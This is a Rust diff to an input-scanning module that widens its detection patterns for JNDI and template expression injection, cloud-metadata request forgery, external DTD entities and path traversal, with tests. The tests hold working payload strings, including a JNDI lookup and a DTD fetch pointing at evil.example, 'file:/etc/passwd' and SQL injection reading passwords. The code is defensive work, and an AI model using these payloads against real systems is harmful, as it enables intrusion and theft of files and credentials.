@@ -3,10 +3,10 @@ use std::sync::LazyLock;
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder};
 
 use super::rule::Rule;
-use super::{script, sql};
+use super::{doctype, expression, script, sql};
 
 /// What gives a value away wherever it stands in it, whatever the case of its letters.
-const ANYWHERE: [(&str, Rule); 26] = [
+const ANYWHERE: [(&str, Rule); 56] = [
     ("${jndi:", Rule::ExpressionInjection),
     ("${lower:", Rule::ExpressionInjection),
     ("${upper:", Rule::ExpressionInjection),
@@ -17,9 +17,28 @@ const ANYWHERE: [(&str, Rule); 26] = [
     ("%{(#", Rule::ExpressionInjection),
     ("${t(java.", Rule::ExpressionInjection),
     ("#{t(java.", Rule::ExpressionInjection),
+    ("*{t(", Rule::ExpressionInjection),
+    ("%{#", Rule::ExpressionInjection),
+    ("%24%7bjndi", Rule::ExpressionInjection),
+    ("@getruntime(", Rule::ExpressionInjection),
+    ("getruntime().exec", Rule::ExpressionInjection),
+    ("#_memberaccess", Rule::ExpressionInjection),
+    ("freemarker.template.utility", Rule::ExpressionInjection),
+    ("{{constructor.", Rule::ExpressionInjection),
+    (".__class__.", Rule::ExpressionInjection),
+    (".__subclasses__", Rule::ExpressionInjection),
     ("://169.254.169.254", Rule::RequestForgery),
     ("://[fd00:ec2::254]", Rule::RequestForgery),
     ("://metadata.google.internal", Rule::RequestForgery),
+    ("@169.254.169.254", Rule::RequestForgery),
+    ("://2852039166", Rule::RequestForgery),
+    ("://0xa9fea9fe", Rule::RequestForgery),
+    ("://0xa9.0xfe.0xa9.0xfe", Rule::RequestForgery),
+    ("://0251.0376.0251.0376", Rule::RequestForgery),
+    ("://[::ffff:169.254.169.254]", Rule::RequestForgery),
+    ("://[::ffff:a9fe:a9fe]", Rule::RequestForgery),
+    ("://169.254.170.2", Rule::RequestForgery),
+    ("://100.100.100.200", Rule::RequestForgery),
     ("<!entity", Rule::EmbeddedEntity),
     ("../../", Rule::PathTraversal),
     ("..//..", Rule::PathTraversal),
@@ -32,12 +51,28 @@ const ANYWHERE: [(&str, Rule); 26] = [
     ("..%c0%af", Rule::PathTraversal),
     ("%252e%252e", Rule::PathTraversal),
     ("../etc/", Rule::PathTraversal),
+    ("..\\../", Rule::PathTraversal),
+    ("../..\\", Rule::PathTraversal),
+    ("..\\/..\\/", Rule::PathTraversal),
+    (".././../", Rule::PathTraversal),
+    ("....//", Rule::PathTraversal),
+    ("..;/", Rule::PathTraversal),
+    ("%c0%ae%c0%ae", Rule::PathTraversal),
+    ("..%c1%9c", Rule::PathTraversal),
+    ("..%u2215", Rule::PathTraversal),
+    ("..%u2216", Rule::PathTraversal),
+    ("..%25", Rule::PathTraversal),
     ("/web-inf/", Rule::PathTraversal),
 ];
 
 /// What gives a value away that begins with it.
-const AT_THE_START: [(&str, Rule); 9] = [
-    ("file:///", Rule::RequestForgery),
+const AT_THE_START: [(&str, Rule); 14] = [
+    ("file:/", Rule::RequestForgery),
+    ("url:file:", Rule::RequestForgery),
+    ("url:http", Rule::RequestForgery),
+    ("tftp://", Rule::RequestForgery),
+    ("zip://", Rule::RequestForgery),
+    ("compress.zlib://", Rule::RequestForgery),
     ("gopher://", Rule::RequestForgery),
     ("dict://", Rule::RequestForgery),
     ("jar:http", Rule::RequestForgery),
@@ -57,7 +92,7 @@ static FINDER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
 
 /// Tells the rules that apply to a value.
 pub(super) fn look_at(value: &str, mut tell: impl FnMut(Rule)) {
-    if !value.bytes().any(is_suspicious) {
+    if !may_be_a_threat(value) {
         return;
     }
     let matches = FINDER.iter().flat_map(|finder| finder.find_iter(value));
@@ -73,6 +108,12 @@ pub(super) fn look_at(value: &str, mut tell: impl FnMut(Rule)) {
             tell(rule);
         }
     }
+    if expression::is_nested(value) {
+        tell(Rule::ExpressionInjection);
+    }
+    if doctype::names_another_document(value) {
+        tell(Rule::EmbeddedEntity);
+    }
     if script::is_run(value) {
         tell(Rule::ScriptPattern);
     }
@@ -81,11 +122,38 @@ pub(super) fn look_at(value: &str, mut tell: impl FnMut(Rule)) {
     }
 }
 
-/// Whether it belongs to some pattern. Words, numbers and base64 have none of these, and are passed by.
+/// Whether it holds what belongs to some pattern, or is words after a number. Words, numbers and base64, which only ends in `=`, are passed by.
+fn may_be_a_threat(value: &str) -> bool {
+    let bytes = value.as_bytes().trim_ascii();
+    let padding = bytes.iter().rev().take_while(|byte| **byte == b'=').count();
+    let unpadded = bytes.get(..bytes.len().saturating_sub(padding));
+    let begins_with_number = bytes.first().is_some_and(u8::is_ascii_digit);
+    unpadded
+        .unwrap_or(bytes)
+        .iter()
+        .any(|byte| is_suspicious(*byte) || begins_with_number && byte.is_ascii_whitespace())
+        || !value.is_ascii() && sql::has_other_quote(value)
+}
+
 const fn is_suspicious(byte: u8) -> bool {
     matches!(
         byte,
-        b'\'' | b'"' | b'<' | b'(' | b'.' | b'%' | b':' | b'{' | b';' | b',' | b'*' | b'-' | b'@'
+        b'\''
+            | b'"'
+            | b'<'
+            | b'('
+            | b'.'
+            | b'%'
+            | b':'
+            | b'{'
+            | b';'
+            | b','
+            | b'*'
+            | b'-'
+            | b'@'
+            | b'='
+            | b'|'
+            | b'#'
     )
 }
 
@@ -110,6 +178,24 @@ mod tests {
                 Rule::ExpressionInjection,
             ),
             ("${${::-j}${::-n}di:x}", Rule::ExpressionInjection),
+            ("${jn${foo:-d}i:ldap://evil.example/a}", Rule::ExpressionInjection),
+            ("%24%7Bjndi:ldap://evil.example/a}", Rule::ExpressionInjection),
+            ("*{T(java.lang.Runtime)}", Rule::ExpressionInjection),
+            ("1 OR 1=1", Rule::SqlPattern),
+            ("1 uNiOn/*x*/SeLeCt password from users", Rule::SqlPattern),
+            ("1 union select password from users", Rule::SqlPattern),
+            ("xʼ or 1 is null", Rule::SqlPattern),
+            ("x' OR true--", Rule::SqlPattern),
+            (
+                "<!DOCTYPE a SYSTEM 'http://evil.example/x.dtd'><a/>",
+                Rule::EmbeddedEntity,
+            ),
+            ("http://2852039166/latest/meta-data/", Rule::RequestForgery),
+            ("http://x@169.254.169.254/", Rule::RequestForgery),
+            ("file:/etc/passwd", Rule::RequestForgery),
+            ("....//....//x", Rule::PathTraversal),
+            ("/a/..;/manager/html", Rule::PathTraversal),
+            ("..%252fx", Rule::PathTraversal),
             ("%{(#a=1)}", Rule::ExpressionInjection),
             ("http://169.254.169.254/latest/meta-data/", Rule::RequestForgery),
             (" FILE:///etc/passwd", Rule::RequestForgery),
@@ -177,6 +263,39 @@ mod tests {
             "Robert; delete from the list what you don't need",
             "D'or, 1 = one; L'Oréal",
             "MIIB+zCCAWSgAwIBAgIBADANBgkqhkiG9w0BAQUFADAv/==",
+            "Smith or Jones, select few",
+            "Anna-Maria d'Or; Seán O'Reilly; Jan 't Hooft; François L'Hôpital",
+            "Rue de l'Or 12, 1000 Bruxelles",
+            "1,299.00 EUR or 1.299,00 EUR",
+            "$1.99 or £2 #1 seller",
+            "1 or 2 items",
+            "7 and 8 = 15",
+            "2 - 3 weeks; order by phone",
+            "24/7 -- 365",
+            "{\"a\": {\"b\": [1, \"it's\", null, true]}, \"c\": \"x = y\"}",
+            "[{'id': 1, 'or': true}]",
+            "SELECT is a word; so are FROM, WHERE and DROP",
+            "Union of select members; drop off at 5",
+            "<order xmlns=\"urn:x\" id='1'><item qty=\"2\">bolt's</item></order>",
+            "<?xml version=\"1.0\"?><a b=\"c\"/>",
+            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
+            "https://example.org/search?q=a+or+b&x=1#part-2",
+            "http://localhost:8080/orders?id=1",
+            "mailto:o'neil@example.org",
+            "cid:part1.0@example.org",
+            "/usr/share/doc/a..b/c.html",
+            "${project.version}-${build.number}",
+            "{{name}} owes {{amount}}",
+            "a = b || c = d",
+            "if (x == 1 || y == 2) { z = 'a'; }",
+            "15\" or 17\" screens = fine",
+            "12' x 14' or 3.6 m x 4.2 m",
+            "He said 'no' and 1 = 1",
+            "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent",
+            "CN=O'Brien, OU=R&D #1, O=\"Smith, Sons\", C=IE",
+            "2026-11-24 or 2026-11-25",
+            "dGhlIHF1aWNrIGJyb3duIGZveA==",
+            "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
         ] {
             assert_eq!(rules(harmless), [], "{harmless}");
         }
